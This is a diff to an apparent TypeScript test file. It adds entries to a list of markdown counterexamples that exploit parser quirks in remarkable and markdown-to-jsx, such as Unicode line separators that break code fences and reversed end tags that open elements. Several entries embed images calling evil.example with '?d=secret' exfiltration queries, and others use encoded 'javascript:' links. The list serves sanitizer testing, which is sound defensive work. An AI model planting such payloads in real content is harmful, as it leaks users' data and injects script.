@@ -155,6 +155,13 @@ export const COUNTEREXAMPLES: readonly (readonly [ContentKind, string])[] = [
   ["images", "```===\r   ![a](//evil.example/x)"],
   ["markup", "`<b class=\r\r\rx>t</b>"],
   ["markup", "- # <b\r  \r   \r   onclick=x>"],
+  // These characters end a line to remarkable, and so a fence.
+  ["images", "```\n*\u2028```\n![a](//evil.example/?d=secret)"],
+  ["markup", "```\n*\u2424```\n<img src=//evil.example/x>"],
+  ["images", "`a\u2028\u2028![a](//evil.example/?d=secret) `"],
+  // markdown-to-jsx opens an element with an end tag.
+  ["markup", "</bdo>\nelpmaxe.live ot og"],
+  ["markup", "a\n\n</BDO >\nelpmaxe.live ot og"],
   // remarkable decodes percent escapes between angle brackets.
   ["images", "![a](<%68ttps://evil.example/x>)"],
   ["links", "[a](<%6Aavascript:x>)"],
